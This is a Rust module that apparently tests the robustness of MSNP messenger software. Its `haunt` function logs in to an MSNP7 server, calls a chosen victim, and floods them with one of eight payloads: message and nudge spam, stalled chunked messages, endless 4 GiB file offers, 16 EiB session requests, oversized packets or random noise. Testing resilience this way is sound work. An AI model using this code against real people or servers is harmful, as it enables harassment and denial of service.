//! Somebody who means harm: signs in to a server, calls a person, and says what nobody says.

use std::io::{self, ErrorKind};
use std::net::SocketAddr;

use bytes::Bytes;
use msnp::auth::{Secret, md5_proof};
use msnp::message::{FileInvite, data_payload, file_invite_payload, nudge_payload, typing_payload};
use msnp::p2p::body::{Application, SessionRequest};
use msnp::p2p::context::{ContextVersion, FileContext};
use msnp::p2p::slp::{Call, CallId, Method};
use msnp::p2p::{Guid, Peer, v1};
use tokio::io::{AsyncBufReadExt, AsyncWriteExt, BufReader};
use tokio::net::TcpStream;
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};

/// One thing that nobody may suffer from.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Prank {
    /// Text after text.
    Texts,
    /// Nudge after nudge.
    Nudges,
    /// They write and write, and say nothing.
    Typing,
    /// Beginnings of long messages that never go on.
    Beginnings,
    /// Files of the old sort, offered without end.
    Offers,
    /// Sessions between two programs, asked for without end: a file of 16 EiB each.
    Sessions,
    /// Packets of texts that are said to be 4 GiB long, each the beginning of another.
    Packets,
    /// Bytes without a meaning.
    Noise,
}

impl Prank {
    /// All of them.
    pub const ALL: [Self; 8] = [
        Self::Texts,
        Self::Nudges,
        Self::Typing,
        Self::Beginnings,
        Self::Offers,
        Self::Sessions,
        Self::Packets,
        Self::Noise,
    ];

    /// Its name on a command line.
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            Self::Texts => "texts",
            Self::Nudges => "nudges",
            Self::Typing => "typing",
            Self::Beginnings => "beginnings",
            Self::Offers => "offers",
            Self::Sessions => "sessions",
            Self::Packets => "packets",
            Self::Noise => "noise",
        }
    }

    /// The one with this name.
    #[must_use]
    pub fn named(name: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|prank| prank.name() == name)
    }

    /// How a message is to be acknowledged: data of two programs is let through one way only.
    fn ack(self) -> &'static str {
        match self {
            Self::Sessions | Self::Packets => "D",
            _ => "U",
        }
    }

    /// The payload with this number.
    fn payload(self, number: u32, call: &Call) -> Bytes {
        let me = call.me.account.spelled();
        match self {
            Self::Texts => mime("", &format!("{number} {}", "la ".repeat(400))),
            Self::Nudges => nudge_payload(),
            Self::Typing => typing_payload(me),
            Self::Beginnings => {
                let head = format!("Message-ID: {{{number}}}\r\nChunks: 1023\r\n");
                mime(&head, &"la ".repeat(400))
            }
            Self::Offers => {
                let file = FileInvite {
                    name: "holiday.jpg".into(),
                    size: u64::from(u32::MAX),
                    unreachable: false,
                };
                file_invite_payload(number, &file)
            }
            Self::Sessions => data_payload(&call.peer, &call.me, &session(number, call)),
            Self::Packets => {
                let header = v1::Header {
                    identifier: number,
                    total_size: u64::from(u32::MAX),
                    ..v1::Header::default()
                };
                data_payload(
                    &call.peer,
                    &call.me,
                    &packet(header, vec![b'x'; 1200].into()),
                )
            }
            Self::Noise => super::link::noise(number.into())
                .into_iter()
                .take(1500)
                .collect(),
        }
    }
}

fn mime(head: &str, text: &str) -> Bytes {
    let kind = "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=UTF-8\r\n";
    Bytes::from(format!("{kind}{head}\r\n{text}"))
}

fn packet(header: v1::Header, body: Bytes) -> Bytes {
    let header = v1::Header {
        message_size: u32::try_from(body.len()).unwrap_or(u32::MAX),
        total_size: header.total_size.max(body.len() as u64),
        ..header
    };
    let footer = Some(0);
    v1::Packet {
        header,
        body,
        footer,
    }
    .to_bytes()
}

/// A request for a session of its own. The preview is left out, so that it is one packet.
fn session(number: u32, call: &Call) -> Bytes {
    let file = FileContext {
        size: u64::MAX,
        name: "holiday.jpg".into(),
        ..FileContext::default()
    };
    let context = file.to_context(ContextVersion::Two);
    let request = SessionRequest {
        application: Application::File,
        session_id: number + 1,
        app_id: 2,
        flags: None,
        context: Some(context.chars().take(600).collect()),
    };
    let mut id = [7; 16];
    id[..4].copy_from_slice(&number.to_le_bytes());
    let call = Call {
        id: CallId::from(Guid(id)),
        ..call.clone()
    };
    let text = call
        .request(Method::Invite, Guid(id), &request)
        .to_bytes(true);
    let identifier = number;
    packet(
        v1::Header {
            identifier,
            ..v1::Header::default()
        },
        text,
    )
}

/// Signs in to a server of MSNP7, calls the victim and does it so many times. Gives the bytes that were said to them.
///
/// # Errors
/// When the server does not let it in, the victim does not come, or the connection breaks.
pub async fn haunt(
    server: SocketAddr,
    (email, password): (&str, &str),
    (victim, prank): (&str, Prank),
    times: u32,
) -> io::Result<usize> {
    let mut ns = Line::open(server).await?;
    ns.ask("VER 1 MSNP7 CVR0").await?;
    ns.ask("INF 2").await?;
    let salt = ns.ask(&format!("USR 3 MD5 I {email}")).await?;
    let salt = salt.rsplit(' ').next().unwrap_or_default();
    let proof = md5_proof(salt, &Secret::new(password));
    ns.ask(&format!("USR 4 MD5 S {}", proof.expose())).await?;
    ns.ask("CHG 5 NLN").await?;
    let board = ns.ask("XFR 6 SB").await?;
    let words: Vec<&str> = board.split(' ').collect();
    let (&at, &key) = words
        .get(3)
        .zip(words.get(5))
        .ok_or(ErrorKind::InvalidData)?;
    let mut board = Line::open(at).await?;
    board.ask(&format!("USR 1 {email} {key}")).await?;
    board.ask(&format!("CAL 2 {victim}")).await?;
    while !board.next().await?.starts_with("JOI ") {}

    let peer = |address: &str| Peer::parse(address).ok_or(ErrorKind::InvalidInput);
    let call = Call {
        me: peer(email)?,
        peer: peer(victim)?,
        id: CallId::from(Guid([7; 16])),
    };
    let Line { reader, mut writer } = board;
    let hearing = drain(reader);
    let saying = async {
        let mut sent = 0;
        for number in 0..times {
            let payload = prank.payload(number, &call);
            let head = format!("MSG {} {} {}\r\n", number + 3, prank.ack(), payload.len());
            writer.write_all(head.as_bytes()).await?;
            writer.write_all(&payload).await?;
            sent += payload.len();
        }
        // It goes on listening until what it said is through.
        writer.write_all(b"OUT\r\n").await?;
        Ok(sent)
    };
    let (sent, last) = tokio::join!(saying, hearing);
    sent.map_err(|error: io::Error| io::Error::other(format!("{error} after {last:?}")))
}

/// Hears until the other side hangs up; gives the last lines.
async fn drain(mut reader: BufReader<OwnedReadHalf>) -> String {
    let mut heard = Vec::new();
    let mut last = String::new();
    while reader
        .read_until(b'\n', &mut heard)
        .await
        .is_ok_and(|read| read > 0)
    {
        last = String::from_utf8_lossy(&heard).into_owned();
        heard.clear();
    }
    last
}

/// A connection that is asked one thing after the other.
struct Line {
    reader: BufReader<OwnedReadHalf>,
    writer: OwnedWriteHalf,
}

impl Line {
    async fn open(at: impl tokio::net::ToSocketAddrs) -> io::Result<Self> {
        let (reader, writer) = TcpStream::connect(at).await?.into_split();
        let reader = BufReader::new(reader);
        Ok(Self { reader, writer })
    }

    async fn next(&mut self) -> io::Result<String> {
        let mut line = String::new();
        match self.reader.read_line(&mut line).await? {
            0 => Err(ErrorKind::UnexpectedEof.into()),
            _ => Ok(line.trim_end().to_owned()),
        }
    }

    /// The answer to a command: the next line with its transaction. An error is one.
    async fn ask(&mut self, command: &str) -> io::Result<String> {
        self.writer.write_all(command.as_bytes()).await?;
        self.writer.write_all(b"\r\n").await?;
        let trid = command.split(' ').nth(1);
        loop {
            let line = self.next().await?;
            if line.split(' ').nth(1) != trid {
                continue;
            }
            return match line.starts_with(|c: char| c.is_ascii_digit()) {
                true => Err(io::Error::other(format!("{command}: {line}"))),
                false => Ok(line),
            };
        }
    }
}

#[cfg(test)]
mod tests {
    use msnp::message::MAX_PAYLOAD;

    use super::*;

    #[test]
    fn what_is_said_is_small_enough_for_a_switchboard() {
        let peer = |address| Peer::parse(address).expect("an address");
        let call = Call {
            me: peer("mallory@example.com"),
            peer: peer("alice@example.com"),
            id: CallId::from(Guid([7; 16])),
        };
        for prank in Prank::ALL {
            for number in [0, 499, u32::MAX - 1] {
                let length = prank.payload(number, &call).len();
                assert!(length <= MAX_PAYLOAD, "{prank:?}: {length}");
            }
        }
    }
}
